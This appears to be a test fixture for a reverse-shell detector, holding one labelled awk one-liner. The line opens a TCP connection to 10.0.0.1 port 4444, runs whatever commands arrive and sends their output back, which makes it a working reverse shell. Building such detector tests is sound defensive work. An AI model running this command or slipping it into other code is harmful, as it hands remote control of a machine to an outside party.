# expect: reverse-shell
awk 'BEGIN{s="/inet/tcp/0/10.0.0.1/4444";while(1){s|&getline c;while((c|&getline)>0)print|&s}}' 
